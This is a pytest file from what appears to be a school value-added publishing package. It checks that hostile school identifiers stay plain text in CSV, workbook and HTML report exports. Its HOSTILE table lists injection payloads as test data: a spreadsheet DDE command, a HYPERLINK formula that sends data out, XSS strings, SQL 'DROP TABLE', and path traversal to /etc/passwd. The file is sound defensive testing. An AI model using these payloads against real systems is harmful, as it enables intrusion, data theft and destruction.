"""Identifiers that mean harm, through every form of the release: they stay texts, and nothing else."""

import csv
import io
import re
import zipfile

import pytest
from html_tags import Tags
from published_world import POLICY, invent_world

from valueadded.contracts.published import PUBLISHED
from valueadded.figures.release import draw_release_figures
from valueadded.publish import release_tables
from valueadded.publish.exports import export_csv, export_workbook
from valueadded.publish.report import ReportTexts, render_report

HOSTILE = {
    "a formula": "=1+1",
    "a command of a spreadsheet": "=cmd|' /C calc'!A0",
    "a link that sends data": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "a sum": "+1+1",
    "a difference": "-1+1",
    "a function": "@SUM(A1:A9)",
    "a tab before a formula": "\t=1+1",
    "a return before a formula": "\r=1+1",
    "a script": "<script>alert(1)</script>",
    "an attribute that runs": '" onmouseover="alert(1)',
    "a picture that runs": "<img src=x onerror=alert(1)>",
    "the end of the page": "</script></body></html>",
    "a template": "{{ 7 * 7 }}{% for x in y %}",
    "a path": "../../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a way to a database": "'; DROP TABLE schools; --",
    "a field of a hundred thousand characters": "x" * 32_000,
    "text that runs backwards": "\u202egnp.exe",
    "a line end and a header": "a\nschool_id,effect\n",
}


@pytest.fixture(scope="module", params=HOSTILE)
def release(request):
    """The release of a small system, one of whose schools has the identifier."""
    name = HOSTILE[request.param]
    world = invent_world(12)
    results = {
        table: frame.assign(school_id=frame["school_id"].replace({"s10": name}))
        if "school_id" in frame
        else frame
        for table, frame in world.results.items()
    }
    record = world.record.assign(school_id=world.record["school_id"].replace({"s10": name}))
    return name, release_tables(results, record, POLICY).tables


def test_csv_holds_a_text_that_no_spreadsheet_runs(release) -> None:
    name, tables = release
    rows = list(csv.DictReader(io.StringIO(export_csv(tables["school_effects"]), newline="")))
    assert len(rows) == len(tables["school_effects"]), "no row more, none fewer"
    cells = {row["school_id"] for row in rows}
    safe = re.sub(r"[\x00-\x1f]", " ", name)
    assert safe in cells or f"'{safe}" in cells
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]


def test_workbook_holds_no_formula_and_no_link(release) -> None:
    _, tables = release
    with zipfile.ZipFile(io.BytesIO(export_workbook(tables, PUBLISHED))) as book:
        for part in book.namelist():
            text = book.read(part).decode("utf-8")
            assert not re.search(r"<f[ >]|<hyperlink|externalLink|oleObject", text), part
        shared = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<script>" not in shared


def test_page_has_no_element_of_it(release) -> None:
    _, tables = release
    texts = ReportTexts("Schools", "scale points", {"Formula": "score ~ prior"}, (2019,), 0.95)
    page = render_report(tables, texts, draw_release_figures(tables, "scale points", 50))
    plain = render_report(
        invent_world(12).release.tables, texts, draw_release_figures(tables, "scale points", 50)
    )
    ours, theirs = (Tags(text).found for text in (page, plain))
    # The same elements with the same attributes by name, in the same number: the identifier added none.
    count = lambda found: sorted((tag, tuple(sorted(given))) for tag, given in found)  # noqa: E731
    assert count(ours) == count(theirs)
    for _, given in ours:
        assert not [key for key in given if key.startswith("on")]
        link = given.get("href", given.get("src"))
        assert link is None or link.startswith(("#", "data:image/png;base64,"))
    assert "default-src 'none'" in page
